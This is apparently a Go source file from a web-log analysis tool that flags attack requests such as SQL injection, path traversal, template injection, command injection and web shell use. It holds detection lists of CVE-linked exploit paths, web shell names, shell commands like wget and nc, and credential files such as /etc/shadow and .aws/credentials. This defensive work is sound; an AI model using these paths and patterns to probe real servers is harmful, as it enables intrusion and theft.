package builtin

import (
	"slices"
	"strconv"
	"strings"

	"deadbox/rules"
	"deadbox/timeline"
)

// attack is what a request tries.
type attack uint8

const (
	noAttack attack = iota
	crossSite
	traversal
	sqlInjection
	forgery   // the server is made to send a request
	knownHole // a path or parameter that only one published hole has
	template  // an expression language is made to evaluate what it is given
	shellshock
	inclusion // a file of the attacker's, or a stream, is included
	phpCode
	commandInjection
	webShell
)

var attackNames = [...]string{
	crossSite: "cross-site scripting", traversal: "path traversal", sqlInjection: "SQL injection", forgery: "server-side request forgery", knownHole: "exploit of a known hole",
	template: "injection of an expression", shellshock: "Shellshock", inclusion: "file inclusion", phpCode: "PHP code", commandInjection: "command injection", webShell: "use of a web shell",
}

// telling are the bytes that no plain request holds, or that make it worth a
// closer look.
var telling = func() (t [256]bool) {
	for i := range t {
		t[i] = tellingByte(byte(i))
	}
	return t
}()

func tellingByte(c byte) bool {
	switch c {
	case '%', '\'', '"', '<', '>', '(', ')', '{', '}', '|', ';', '`', '$', '\\', '!', '*', '^', '[', ']', ' ', '+', '@':
		return true
	}
	return c < 0x20 || c >= 0x7f
}

// knownHoles are paths that serve nothing but a published hole, in lower
// case. An application that has the hole has the path; a server without it answers 404.
var knownHoles = []struct {
	text string
	name string
}{
	{"phpunit/src/util/php/eval-stdin.php", "PHPUnit's eval-stdin.php runs the PHP it is sent (CVE-2017-9841)"},
	{"/eval-stdin.php", "PHPUnit's eval-stdin.php runs the PHP it is sent (CVE-2017-9841)"},
	{"htmlawedtest.php", "htmLawed's test page in GLPI runs PHP functions (CVE-2022-35914)"},
	{"/_ignition/execute-solution", "Laravel Ignition (CVE-2021-3129)"},
	{"/boaform/admin/formlogin", "home routers"},
	{"/gponform/diag_form", "home routers (CVE-2018-10561)"},
	{"/hnap1", "home routers"},
	{"/goform/set_limitclient_cfg", "home routers"},
	{"/cgi-bin/nobody/", "video recorders"},
	{"/wls-wsat/", "WebLogic (CVE-2017-10271)"},
	{"/_async/asyncresponseservice", "WebLogic (CVE-2019-2725)"},
	{"/console/css/", "WebLogic (CVE-2020-14882)"},
	{"/tmui/login.jsp/", "BIG-IP (CVE-2020-5902)"},
	{"/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "WP File Manager (CVE-2020-25213)"},
	{"/functionrouter", "Spring Cloud Function (CVE-2022-22963)"},
	{"/struts2-rest-showcase/", "Struts"},
	{"/invoker/jmxinvokerservlet", "JBoss"},
	{"/invoker/ejbinvokerservlet", "JBoss"},
	{"/vpns/portal/scripts/", "Citrix ADC (CVE-2019-19781)"},
	{"/dana-na/../", "Pulse Secure (CVE-2019-11510)"},
	{"/remote/fgt_lang", "FortiOS (CVE-2018-13379)"},
	{"/telerik.web.ui.webresource.axd", "Telerik (CVE-2019-18935)"},
	{"/setup/setupadministrator.action", "Confluence (CVE-2023-22515)"},
	{"/server-info.action", "Confluence (CVE-2023-22515)"},
	{"/json/setup-restore.action", "Confluence (CVE-2023-22518)"},
	{"/php/utils/createremoteappwebsession.php/", "PAN-OS (CVE-2024-9474)"},
	{"/cgi-bin/networkdiag.cgi", "Netgear"},
	{"/cgi/networkdiag.cgi", "Netgear"},
	{"/ws_utc/", "WebLogic (CVE-2018-2894)"},
	{"/securityrealm/user/admin/descriptorbyname/", "Jenkins (CVE-2018-1000861)"},
	{"/actuator/gateway/routes", "Spring Cloud Gateway (CVE-2022-22947)"},
	{"/config/amxx", "old game servers"},
}

// shellNames are files that are web shells by their names.
var shellNames = set(`c99.php c100.php r57.php wso.php wso2.php b374k.php alfa.php alfashell.php shell.php webshell.php cmd.php cmd.jsp shell.jsp cmd.asp cmd.aspx shell.aspx minishell.php mini.php
	indoxploit.php idx.php 0byt3m1n1.php up.php phpspy.php antichat.php gel4y.php marijuana.php p0wny.php p0wny-shell.php simple-backdoor.php php-backdoor.php qsd-php-backdoor.php
	worse_linux_shell.php s72_shell.php nstview.php locus7s.php predator.php safe0ver.php zehir4.asp kacak.asp ntdaddy.asp aspxspy.aspx jspspy.jsp c37.php laudanum.php weevely.php
	shell.phtml cmd.phtml shell.php5 backdoor.php hack.php 1337.php fx29.php sadrazam.php con7ext.php alf4.php`)

// shellParameters carry the commands of most web shells.
var shellParameters = set("cmd exec command execute shell cmdline run c0mmand komut _cmd ex3c phpshell system syscmd")

// plainCommands are commands that mean nothing else.
var plainCommands = set("whoami uname ifconfig netstat ipconfig systeminfo wget curl tftp ftpget busybox nslookup nc ncat netcat bash dash powershell phpinfo lsb_release hostname printenv iptables crontab chattr tasklist ipaddr lsattr busybox dmesg id pwd ps ls")

// wordCommands are words of plain language too.
var wordCommands = set("cat head tail find sleep echo touch set type net dir which expr true false env sh python python3 perl php ruby ping telnet sort rm cp mv mkdir chmod chown kill ss w who last df du date dig host ip more less strings grep awk sed cut base64 xxd od nohup sudo su exec eval source export test printf tar gzip install passwd groups users killall pkill iwconfig route arp at start print reboot shutdown")

// sensitive are files that an attacker wants to read or run, with the
// directory that makes them so.
var sensitiveFiles = []string{
	"etc/passwd", "etc/shadow", "etc/group", "etc/hosts", "etc/issue", "etc/crontab", "etc/apache2/", "etc/nginx/", "etc/ssh/", "etc/mysql/", "etc/php", "proc/self/", "proc/version", "proc/cpuinfo", "proc/1/",
	"var/log/", "boot.ini", "win.ini", "windows/system32", "winnt/", "web-inf/", "meta-inf/", "wp-config.php", "configuration.php", ".htpasswd", ".htaccess", ".ssh/", "id_rsa", ".bash_history", ".env", "bin/sh", "bin/bash",
	"bin/id", "system32/cmd.exe", "localsettings.php", "settings.php", "config.inc.php", "database.yml", ".git/config", ".aws/credentials", "php.ini", "my.cnf", "httpd.conf", "usr/share/", "usr/local/lib/php/",
}

// match is one thing that a request tries.
type match struct {
	attack attack
	what   string // the parameter and what was seen in it, decoded
	name   string // of a known hole
	sure   bool   // it aims at what only an attacker wants
}

// requestMatcher judges requests. It keeps buffers, so it is not for use by
// two goroutines.
type requestMatcher struct {
	params []param
}

// judge gives the gravest thing that a request tries.
func (m *requestMatcher) judge(method, url, agent, referer string) (best match) {
	// The headers first: their tests are cheap.
	if headerTelling(agent) {
		m.header("the user agent", agent, &best)
	}
	if headerTelling(referer) {
		m.header("the referrer", referer, &best)
	}
	if len(url) > maxDecode {
		url = url[:maxDecode]
	}
	special := false
	dots := false
	query := -1
	for i := range len(url) {
		if telling[url[i]] {
			special = true
		}
		if url[i] == '.' && i+1 < len(url) && url[i+1] == '.' {
			dots = true
		}
		if url[i] == '?' && query < 0 {
			query = i
		}
	}
	lowerPath := url
	if query >= 0 {
		lowerPath = url[:query]
	}
	if !special && !dots && query < 0 && !strings.Contains(url, "://") {
		m.plainPath(lowerPath, url, &best)
		return best
	}
	path, _, params := splitURL(url, m.params)
	m.params = params
	m.plainPath(path, url, &best)
	if special || dots {
		m.path(url[:len(lowerPath)], path, &best)
	}
	for i := range params {
		m.param(&params[i], url, path, &best)
	}
	// Queries that are one command: "?-d+allow_url_include=1", "?id".
	if query >= 0 && query+1 < len(url) && (special || url[query+1] == '-') {
		m.query(url[query+1:], &best)
	}
	return best
}

// ignored reports whether the exploit stands in a header of a request for no
// program: nearly every server answers that without looking at the header.
func (m *match) ignored(path string) bool {
	return (strings.HasPrefix(m.what, "the user agent ") || strings.HasPrefix(m.what, "the referrer ")) && !dynamicPath(path) && !strings.Contains(path, "cgi-bin/")
}

func better(best *match, a attack, what string, sure bool) {
	if a > best.attack || a == best.attack && sure && !best.sure {
		*best = match{attack: a, what: what, sure: sure}
	}
}

func headerTelling(s string) bool {
	return strings.Contains(s, "${") || strings.Contains(s, "() {") || strings.Contains(s, "(){") || strings.Contains(s, "<?") || strings.Contains(s, "%24%7B") || strings.Contains(s, "%24%7b") || strings.Contains(s, "$%7B")
}

func (m *requestMatcher) header(name, value string, best *match) {
	v, _ := percentDecode(value, false)
	l := strings.ToLower(v)
	switch {
	case isShellshock(l):
		better(best, shellshock, name+" "+show(v), true)
	case isTemplate(l):
		better(best, template, name+" "+show(v), true)
	case isPHP(l):
		better(best, phpCode, name+" "+show(v), true)
	}
}

func isShellshock(l string) bool {
	for _, s := range [...]string{"() {", "(){"} {
		i := strings.Index(l, s)
		if i >= 0 && (i == 0 || !isWord(l[i-1]) && l[i-1] != ' ') {
			rest := l[i+len(s):]
			return strings.Contains(rest, "}") && (strings.Contains(rest, ";") || strings.Contains(rest, "=>"))
		}
	}
	return false
}

func isTemplate(l string) bool {
	if strings.Contains(l, "${") {
		r := l
		if strings.Contains(l, ":") {
			r = resolveLookups(l)
		}
		if strings.Contains(r, "${jndi:") || strings.Contains(r, "jndi:ldap") || strings.Contains(r, "jndi:rmi") || strings.Contains(r, "jndi:dns") ||
			strings.Contains(r, "${script:") || strings.Contains(r, "${url:") || strings.Contains(r, "${dns:") || strings.Contains(r, "${env:") {
			return true
		}
		if strings.Contains(r, "${#") || strings.Contains(r, "${(#") || strings.Contains(r, "${@") || strings.Contains(r, "${t(") || arithmetic(r, "${") {
			return true
		}
	}
	if strings.Contains(l, "java.lang.") && (strings.Contains(l, "getruntime") || strings.Contains(l, "processbuilder") || strings.Contains(l, "t(java") || strings.Contains(l, "@java") || strings.Contains(l, "scriptengine")) {
		return true
	}
	if strings.Contains(l, "%{(#") || strings.Contains(l, "%{#") || strings.Contains(l, "#_memberaccess") || strings.Contains(l, "(#context[") || strings.Contains(l, "@ognl.") || strings.Contains(l, "%{") && arithmetic(l, "%{") {
		return true
	}
	if strings.Contains(l, "{{") && (strings.Contains(l, "__class__") || strings.Contains(l, "__globals__") || strings.Contains(l, "__subclasses__") || strings.Contains(l, "__import__") || strings.Contains(l, "config.items") ||
		strings.Contains(l, ".constructor") || strings.Contains(l, "registerundefinedfiltercallback") || arithmetic(l, "{{")) {
		return true
	}
	return strings.Contains(l, "<%=") && arithmetic(l, "<%=") || strings.Contains(l, "#{") && arithmetic(l, "#{") || strings.Contains(l, "freemarker.template.utility.execute") || strings.Contains(l, "#set($") && strings.Contains(l, "class.forname")
}

// arithmetic reports whether a product of numbers follows an opening mark, as
// in {{7*7}}: a test whether templates are evaluated.
func arithmetic(l, open string) bool {
	i := strings.Index(l, open)
	if i < 0 {
		return false
	}
	s := strings.TrimLeft(l[i+len(open):], " '\"")
	n := 0
	for n < len(s) && s[n] >= '0' && s[n] <= '9' {
		n++
	}
	rest := strings.TrimLeft(s[n:], " '\"")
	return n > 0 && len(rest) > 1 && (rest[0] == '*') && (rest[1] >= '0' && rest[1] <= '9' || rest[1] == '\'' || rest[1] == ' ')
}

// phpCalls are functions that run a command or code.
var phpCalls = []string{"system(", "passthru(", "shell_exec(", "popen(", "proc_open(", "pcntl_exec(", "eval(", "assert(", "fwrite(fopen(", "file_put_contents(", "call_user_func(", "call_user_func_array(", "base64_decode(", "gzinflate(", "phpinfo(", "create_function(", "exec("}

func isPHP(l string) bool {
	if strings.Contains(l, "<?php") || strings.Contains(l, "<?=") {
		return true
	}
	if i := strings.Index(l, "<?"); i >= 0 && (strings.Contains(l[i:], "(") || strings.Contains(l[i:], "`")) && !strings.Contains(l[i:], "<?xml") {
		return true
	}
	return false
}

// isPHPCall reports whether a value calls a function of PHP, as values do
// that reach eval or a pattern with the e modifier.
func isPHPCall(l string) bool {
	if strings.IndexByte(l, '(') < 0 {
		return false
	}
	for _, c := range phpCalls {
		for from := 0; ; {
			i := strings.Index(l[from:], c)
			if i < 0 {
				break
			}
			i += from
			from = i + len(c)
			before := byte(0)
			if i > 0 {
				before = l[i-1]
			}
			// Inside a sentence a blank or letter comes before; in an injection, a sign.
			if !(before == '\'' || before == '"' || before == '.' || before == ';' || before == '(' || before == '{' || before == '@' || before == '=' || before == '|' || before == '&' || i == 0 && c != "exec(" && c != "eval(" && c != "assert(") {
				continue
			}
			arg := l[i+len(c):]
			if c == "phpinfo(" && strings.HasPrefix(arg, ")") || arg != "" && (arg[0] == '\'' || arg[0] == '"' || arg[0] == '$' || arg[0] == '_' || arg[0] == '@' || strings.HasPrefix(arg, "chr(") || strings.HasPrefix(arg, "base64_") || strings.HasPrefix(arg, "fopen(")) ||
				i > 0 && (before == '\'' || before == '.' || before == '{' || before == '@') && c != "exec(" && c != "eval(" {
				return true
			}
		}
	}
	return strings.Contains(l, "eval(base64_decode(") || strings.Contains(l, "@eval($_") || strings.Contains(l, "{${") && strings.Contains(l, "(")
}

// plainPath looks at paths that need no special bytes.
func (m *requestMatcher) plainPath(path, url string, best *match) {
	n := base(path)
	if len(n) > 4 && strings.IndexByte(n, '.') > 0 && shellNames[strings.ToLower(n)] {
		better(best, webShell, "the file name "+show(n), false)
	}
	if len(path) < 6 {
		return
	}
	l := lowerASCII(path)
	for i := range knownHoles {
		if k := &knownHoles[i]; strings.Contains(l, k.text) {
			if knownHole > best.attack {
				*best = match{attack: knownHole, what: "the path " + show(path), name: k.name, sure: true}
			}
			return
		}
	}
	if strings.HasSuffix(l, "/etc/passwd") || strings.HasSuffix(l, "/etc/shadow") || strings.HasPrefix(l, "/proc/self/") || strings.HasSuffix(l, "/boot.ini") || strings.HasSuffix(l, "/win.ini") {
		better(best, traversal, "the path "+show(path), false)
	}
}

// lowerASCII is strings.ToLower that does not allocate for what is in lower
// case.
func lowerASCII(s string) string {
	for i := range len(s) {
		if s[i] >= 'A' && s[i] <= 'Z' || s[i] >= 0x80 {
			return strings.ToLower(s)
		}
	}
	return s
}

// climbs counts the ".." elements of a decoded value, and the most in a row.
func climbs(v string) (n int) {
	for i := 0; i+1 < len(v); i++ {
		if v[i] != '.' || v[i+1] != '.' {
			continue
		}
		j := i + 2
		for j < len(v) && v[j] == '.' {
			j++
		}
		// "..": between slashes, backslashes, or their like; "..;" is Tomcat's, "...." with
		// doubled slashes gets through a filter that removes "../".
		ok := j == len(v) || v[j] == '/' || v[j] == '\\' || v[j] == ';'
		okBefore := i == 0 || v[i-1] == '/' || v[i-1] == '\\' || v[i-1] == ';' || v[i-1] == '=' || v[i-1] == 0 || v[i-1] == '|' || v[i-1] == '~' || v[i-1] == ':'
		if ok && okBefore && (j-i == 2 || j-i == 4) {
			n++
		}
		i = j - 1
	}
	return n
}

// isTraversal judges a decoded value; raw is what was written, "" if it was
// the same.
func isTraversal(v, raw string) (hit, sure bool) {
	l := lowerASCII(v)
	n := climbs(l)
	if strings.Contains(l, "0x2e0x2e") || strings.Contains(l, "..0x5c") || strings.Contains(l, "..0x2f") {
		n += 2
	}
	target := false
	if n > 0 || strings.IndexByte(l, '/') >= 0 || strings.IndexByte(l, '\\') >= 0 || strings.Contains(l, "boot.ini") || strings.Contains(l, "win.ini") {
		norm := strings.ReplaceAll(l, "\\", "/")
		for strings.Contains(norm, "//") {
			norm = strings.ReplaceAll(norm, "//", "/")
		}
		norm = strings.ReplaceAll(norm, "/./", "/")
		for _, s := range sensitiveFiles {
			if i := strings.Index(norm, s); i >= 0 && (i == 0 || norm[i-1] == '/' || norm[i-1] == ':' || norm[i-1] == '.' || s[0] == '.') {
				target = true
				break
			}
		}
		if n == 0 && target {
			// A path from the root, as a value of its own.
			p := strings.TrimRight(norm, "\x00 %")
			p = strings.TrimPrefix(p, "file:")
			p = strings.TrimSuffix(strings.TrimSuffix(p, "?"), ".html")
			abs := strings.HasPrefix(p, "/") || len(p) > 2 && p[1] == ':' && p[2] == '/'
			if abs && (strings.HasPrefix(p, "/etc/passwd") || strings.HasPrefix(p, "/etc/shadow") || strings.HasPrefix(p, "/etc/group") || strings.HasPrefix(p, "/etc/issue") || strings.HasPrefix(p, "/proc/self/") || strings.HasPrefix(p, "/proc/version") || strings.HasSuffix(p, "boot.ini") || strings.HasSuffix(p, "win.ini")) && !strings.Contains(p, " ") {
				return true, true
			}
			return false, false
		}
	}
	if n == 0 {
		return false, false
	}
	hidden := false
	if raw != "" {
		lr := strings.ToLower(raw)
		hidden = strings.Contains(lr, "%2e") || strings.Contains(lr, "%252e") || strings.Contains(lr, "%c0%ae") || strings.Contains(lr, "..%252f") || strings.Contains(lr, "%c0%af") || strings.Contains(lr, "..%5c") || strings.Contains(lr, "%%32")
	}
	hidden = hidden || strings.Contains(l, "..;") || strings.Contains(l, "..\\") || strings.Contains(l, "....//") || strings.Contains(l, "\x00")
	switch {
	case target:
		return true, true
	case n >= 3, hidden:
		return true, false
	case n == 2:
		return !staticFiles[extension(base(l))], false
	}
	return false, false
}

func (m *requestMatcher) path(raw, path string, best *match) {
	if hit, sure := isTraversal(path, raw); hit {
		a := traversal
		lr := strings.ToLower(raw)
		if strings.Contains(lr, "/cgi-bin/") && (strings.Contains(path, "/bin/sh") || strings.Contains(path, "/bin/bash")) {
			better(best, commandInjection, "the path "+show(path), true) // CVE-2021-41773: a program is run
		}
		better(best, a, "the path "+show(path), sure)
	}
	l := lowerASCII(path)
	switch {
	case strings.Contains(l, "/web-inf/") || strings.Contains(l, "/meta-inf/") && strings.Contains(l, ";"):
		better(best, traversal, "the path "+show(path), true)
	case isTemplate(l):
		better(best, template, "the path "+show(path), true)
	case isPHP(l):
		better(best, phpCode, "the path "+show(path), true)
	case isShellshock(l):
		better(best, shellshock, "the path "+show(path), true)
	case strings.Contains(l, "think\\") && strings.Contains(l, "invokefunction"):
		better(best, knownHole, "the path "+show(path), true)
	}
	if strings.ContainsAny(path, "'\"<(;|`$ ") {
		if isCommand(path, l, true) {
			better(best, commandInjection, "the path "+show(path), true)
		} else if isSQLInjection(path) {
			better(best, sqlInjection, "the path "+show(path), false)
		} else if isCrossSite(l) {
			better(best, crossSite, "the path "+show(path), false)
		}
	}
}

// including are names of parameters that hold the name of a file.
var including = set("page file include inc path template view dir load lang language p pg module mod document folder root style conf config content layout theme tpl site url src href document_root basepath base_path mosconfig_absolute_path phpbb_root_path cat action board date detail download prefix show doc dl class func function pagename filename")

// searching are names of parameters that hold what a person types.
var searching = set("q s query search keyword keywords k term terms text title subject comment message body name")

func (m *requestMatcher) param(p *param, url, path string, best *match) {
	v := p.value
	name := lowerASCII(p.name)
	if len(v) == 0 && len(p.name) < 4 {
		return
	}
	say := func() string {
		if v == "" {
			return "the query " + show(p.name)
		}
		return "the parameter " + show(p.name) + " " + show(foldCharacters(v))
	}
	l := lowerASCII(v)

	// Names that are attacks by themselves.
	if strings.Contains(name, "class.module.classloader") || strings.HasPrefix(name, "class.classloader") || strings.Contains(name, "#_memberaccess") || strings.Contains(name, "(#") || strings.HasPrefix(name, "redirect:${") || strings.HasPrefix(name, "redirect:%{") {
		better(best, template, say(), true)
	}
	if i := strings.Index(name, "[$"); i > 0 && strings.HasSuffix(name, "]") {
		better(best, sqlInjection, "the parameter "+show(p.name), false) // operators of MongoDB
	}
	if strings.Contains(l, "think\\") && (strings.Contains(url, "invokefunction") || strings.Contains(l, "invokefunction") || strings.Contains(l, "think\\view") || strings.Contains(l, "think\\request") || strings.Contains(l, "think\\app") || strings.Contains(l, "think\\container")) {
		if knownHole >= best.attack {
			*best = match{attack: knownHole, what: say(), name: "ThinkPHP (CVE-2018-20062)", sure: true}
		}
	}
	if len(v) == 0 {
		v, l = p.name, name
	}

	// A web shell's parameter: the whole value is a command line.
	switch {
	case shellCommand(name, l):
		better(best, webShell, say(), true)
	case searching[name]:
	case wholeCommand(l), pictures[extension(base(path))] && plainCommands[strings.TrimSpace(l)]:
		better(best, webShell, say(), false)
	}

	if strings.Contains(l, "://") || strings.HasPrefix(l, "data:") || strings.HasPrefix(l, "//") {
		switch {
		case strings.Contains(l, "php://input") || strings.Contains(l, "php://filter") || strings.Contains(l, "expect://") || strings.Contains(l, "data://text") || strings.Contains(l, "phar://") || strings.Contains(l, "zip://") && strings.Contains(l, "%23") ||
			strings.Contains(l, "glob://") || strings.Contains(l, "compress.zlib://"):
			better(best, inclusion, say(), true)
		case strings.HasPrefix(l, "data:") && strings.Contains(l, "base64,") && including[name] && !strings.HasPrefix(l, "data:image") && !strings.HasPrefix(l, "data:application") && !strings.HasPrefix(l, "data:font"):
			better(best, inclusion, say(), true)
		case strings.HasPrefix(l, "gopher://") || strings.HasPrefix(l, "dict://") || strings.HasPrefix(l, "file:///") || strings.Contains(l, "//169.254.169.254") || strings.Contains(l, "metadata.google.internal") || strings.Contains(l, "//100.100.100.200"):
			better(best, forgery, say(), true)
		case (strings.HasPrefix(l, "http://") || strings.HasPrefix(l, "https://") || strings.HasPrefix(l, "ftp://") || strings.HasPrefix(l, "//")) && including[name] && remoteScript(l):
			better(best, inclusion, say(), false)
		}
	}

	special := false
	for i := range len(v) {
		switch c := v[i]; c {
		case '\'', '"', '<', '>', '(', ')', '{', '}', '|', ';', '`', '$', '\\', '&', '\n', '=', '#', '*', '!':
			special = true
		}
	}
	if strings.IndexByte(v, '/') >= 0 || strings.Contains(v, "..") || strings.Contains(l, ".ini") {
		if !searching[name] || strings.Contains(v, "../") || strings.Contains(v, "..\\") {
			if hit, sure := isTraversal(v, url); hit {
				better(best, traversal, say(), sure)
			}
		}
	}
	if !special {
		if isReadingCommand(l) {
			better(best, commandInjection, say(), true)
		}
		if strings.IndexByte(v, ' ') >= 0 && isSQLInjection(v) {
			better(best, sqlInjection, say(), false)
		} else if sqlCatalogues[l] || strings.HasPrefix(l, "information_schema.") {
			better(best, sqlInjection, say(), false)
		}
		return
	}
	expression := isTemplate(l)
	if expression {
		better(best, template, say(), true)
	}
	if folded := foldCharacters(l); isPHP(l) || !(expression && strings.Contains(l, "java")) && (isPHPCall(folded) || isPHPCall(l)) {
		better(best, phpCode, say(), true)
	}
	if isShellshock(l) {
		better(best, shellshock, say(), true)
	}
	if isCommand(v, l, false) {
		better(best, commandInjection, say(), true)
	}
	if isSQLInjection(v) {
		better(best, sqlInjection, say(), false)
	}
	if isCrossSite(l) {
		better(best, crossSite, say(), false)
	}
}

// remoteScript reports whether an address is meant to be included as a
// script: it ends so that what the application appends becomes its query.
func remoteScript(l string) bool {
	if strings.HasSuffix(l, "?") || strings.HasSuffix(l, "\x00") || strings.HasSuffix(l, "%00") {
		return true
	}
	p, _, _ := strings.Cut(l, "?")
	switch extension(base(p)) {
	case "txt", "dat":
		return true
	case "gif", "jpg", "png":
		return strings.Contains(l, "??") || strings.HasSuffix(l, "?")
	}
	return false
}

// shellCommand reports whether a parameter by its name is a web shell's, and
// its value a command line.
func shellCommand(name, l string) bool {
	if !shellParameters[name] {
		return false
	}
	l = strings.TrimSpace(l)
	first, rest, _ := strings.Cut(l, " ")
	first = strings.TrimSuffix(first, ";")
	cmd := base(first)
	switch {
	case plainCommands[cmd]:
		return true
	case wordCommands[cmd] && (strings.HasPrefix(first, "/bin/") || strings.HasPrefix(first, "/usr/bin/") || looksLikeArguments(rest)):
		return true
	case strings.HasPrefix(first, "/tmp/") || strings.HasPrefix(first, "./"):
		return true
	}
	return false
}

// wholeCommand reports whether a value, under whatever name, is a command of
// the system with arguments that only a command has.
func wholeCommand(l string) bool {
	first, rest, ok := strings.Cut(strings.TrimSpace(l), " ")
	if !ok {
		return false
	}
	cmd := base(first)
	return (plainCommands[cmd] || wordCommands[cmd]) && (looksLikeArguments(rest) || cmd == "ps" && strings.HasPrefix(rest, "a")) && !strings.Contains(rest, ", ")
}

// looksLikeArguments reports whether what follows a command is a path, an
// option, a number or an address, and not a sentence.
func looksLikeArguments(rest string) bool {
	rest = strings.TrimSpace(rest)
	if rest == "" {
		return false
	}
	f, _, _ := strings.Cut(rest, " ")
	f = strings.TrimRight(f, "`;|)&'\"#")
	if f == "" {
		return false
	}
	if f[0] == '/' || f[0] == '-' && len(f) > 1 || f[0] == '.' && strings.Contains(f, "/") || f[0] == '~' || f[0] == '"' || f[0] == '\'' || f[0] == '$' || f[0] == '*' {
		return true
	}
	if strings.Trim(f, "0123456789.:") == "" || strings.Contains(f, "://") {
		return true
	}
	return strings.Contains(f, "/") && !strings.HasSuffix(f, "/")
}

// isCommand judges whether a decoded value breaks out to a shell. l is v in
// lower case; inPath is set for paths, where ";" begins a parameter.
func isCommand(v, l string, inPath bool) bool {
	if strings.Contains(l, "${ifs}") || strings.Contains(l, "$ifs") || strings.Contains(l, "{cat,/") || strings.Contains(l, "<!--#exec") {
		return true
	}
	for i := 0; i < len(l); i++ {
		c := l[i]
		open := i
		closing := byte(0)
		switch c {
		case ';', '|', '\n':
		case '&':
		case '`':
			closing = '`'
		case '$':
			if i+1 >= len(l) || l[i+1] != '(' {
				continue
			}
			closing = ')'
			i++
		default:
			continue
		}
		j := i + 1
		for j < len(l) && (l[j] == ' ' || l[j] == '\t' || l[j] == c && c != '`' || l[j] == '+' && j > i+1) {
			j++
		}
		// The command: a path or a word.
		k := j
		for k < len(l) && (isWord(l[k]) || l[k] == '/' || l[k] == '.' || l[k] == '-' || l[k] == '\'' && k > j && false) {
			k++
		}
		word := l[j:k]
		if word == "" {
			i = max(i, j-1)
			continue
		}
		cmd := strings.TrimRight(base(word), ".")
		after := byte(0)
		if k < len(l) {
			after = l[k]
		}
		if after == '=' || after == ':' || after == '[' {
			continue // a parameter of its own, a label, a list
		}
		pathed := strings.HasPrefix(word, "/bin/") || strings.HasPrefix(word, "/usr/bin/") || strings.HasPrefix(word, "/sbin/") || strings.HasPrefix(word, "bin/") || strings.HasPrefix(word, "usr/bin/") || strings.HasPrefix(word, "/tmp/")
		if !pathed && strings.Contains(word, "/") {
			continue
		}
		plain, lax := plainCommands[cmd], wordCommands[cmd]
		if !plain && !lax {
			continue
		}
		end := after == 0 || after == ';' || after == '|' || after == '&' || after == '`' || after == ')' || after == '\n' || after == '#' || after == '<' || after == '>' || after == '\'' || after == '"' || after == '$' || after == '\\' || after == '%' || after == '\x00'
		args := after == ' ' || after == '\t' || after == '+'
		if !end && !args {
			continue
		}
		rest := ""
		if args {
			rest = l[k:]
		}
		withArguments := args && looksLikeArguments(strings.TrimLeft(rest, " \t+"))
		trailing := strings.TrimSpace(rest) == "" || strings.HasPrefix(strings.TrimSpace(rest), ";") || strings.HasPrefix(strings.TrimSpace(rest), "|") || strings.HasPrefix(strings.TrimSpace(rest), "#")
		switch {
		case pathed:
			return true
		case closing != 0:
			// `id`, $(id): the quoting closes, or arguments follow.
			if end && after == closing && plain || withArguments || plain && args {
				return true
			}
		case withArguments && (plain || c != '&' || strings.HasPrefix(strings.TrimLeft(rest, " "), "-") || strings.HasPrefix(strings.TrimLeft(rest, " "), "/")):
			return true
		case open == 0 && (c == ';' || c == '|' || c == '\n') && !inPath:
			return true // a value that begins so is no sentence
		case len(cmd) <= 2 || !plain:
			// Two letters, or a word: only where nothing else is meant, "x;id" and ";cat".
			if (c == ';' || c == '\n') && !inPath && (plain && (end || trailing)) || (c == '|' && open == 0 && plain && (end || trailing)) ||
				(c == '|' || c == '&') && open+1 < len(l) && l[open+1] == c && plain && (end || trailing) ||
				c == '|' && plain && strings.ContainsAny(l[:open], "'\")") && (end || trailing) {
				return true
			}
		case plain && (end || trailing || c == '|' || c == ';') && !(c == '&' && args && !trailing):
			return !inPath || c != ';' || args
		}
	}
	if isReadingCommand(l) {
		return true
	}
	// "/usr/bin/id|": a program by its path, and a pipe.
	if (strings.HasPrefix(l, "/bin/") || strings.HasPrefix(l, "/usr/bin/")) && strings.ContainsAny(l[len(l)-1:], "|;`") {
		return true
	}
	return false
}

// isReadingCommand reports whether a value is a command on the files of
// accounts: "cat /etc/passwd" has no sign of an injection, and can be nothing else.
func isReadingCommand(l string) bool {
	first, rest, ok := strings.Cut(strings.TrimSpace(l), " ")
	return ok && (wordCommands[base(first)] || plainCommands[base(first)]) && (strings.HasPrefix(rest, "/etc/passwd") || strings.HasPrefix(rest, "/etc/shadow"))
}

// htmlTags begin what a page must not take from a visitor.
var htmlTags = set("script img iframe svg body object embed input form meta link style base applet marquee video audio details table div a button textarea select xss frame frameset bgsound layer ilayer isindex math keygen template br p head html title td th span h1 image source noscript plaintext xml")

func isCrossSite(l string) bool {
	for i := 0; i < len(l); i++ {
		if l[i] != '<' {
			continue
		}
		j := i + 1
		for j < len(l) && (l[j] == '/' || l[j] == ' ' || l[j] == 0 || l[j] == '%') {
			j++
		}
		k := j
		for k < len(l) && isWord(l[k]) {
			k++
		}
		if k > j && htmlTags[l[j:k]] && (k-j > 1 || k >= len(l) || l[k] == ' ' || l[k] == '>') {
			return true
		}
	}
	for _, s := range [...]string{"javascript:", "vbscript:", "livescript:", "document.cookie", "document.location", "string.fromcharcode", "expression(", "alert(", "prompt(", "confirm(", "onerror=", "onload=", "onmouseover=", "onfocus=", "onclick="} {
		if i := strings.Index(l, s); i >= 0 {
			switch s {
			case "alert(", "prompt(", "confirm(", "expression(":
				if i > 0 && isWord(l[i-1]) {
					continue
				}
			case "onerror=", "onload=", "onmouseover=", "onfocus=", "onclick=":
				if i == 0 || isWord(l[i-1]) || !strings.ContainsAny(l[:i], "\"'<>") {
					continue
				}
			case "javascript:":
				if i > 0 && isWord(l[i-1]) {
					continue
				}
			}
			return true
		}
	}
	return false
}

// query looks at a whole query that is no list of parameters.
func (m *requestMatcher) query(raw string, best *match) {
	q, _ := percentDecode(raw, true)
	l := strings.ToLower(q)
	if strings.Contains(l, "allow_url_include") || strings.Contains(l, "auto_prepend_file") || strings.Contains(l, "-d ") && strings.Contains(l, "safe_mode") {
		better(best, inclusion, "the query "+show(q), true)
	}
	if l == "-s" {
		better(best, knownHole, "the query "+show(q), false)
	}
	if strings.HasPrefix(l, "cd /tmp") || strings.Contains(l, ";wget http") || strings.Contains(l, "; wget http") || strings.Contains(l, ";curl http") {
		better(best, commandInjection, "the query "+show(q), true)
	}
}

// answer is how the server took a request.
type answer uint8

const (
	refused answer = iota // the request reached nothing
	unknownAnswer
	redirected
	served
	crashed
)

func answered(status string) answer {
	n, err := strconv.Atoi(status)
	if err != nil || n < 100 || n > 599 {
		return unknownAnswer
	}
	switch {
	case n == 301 || n == 308 || n >= 400 && n < 499:
		return refused
	case n >= 300 && n < 400:
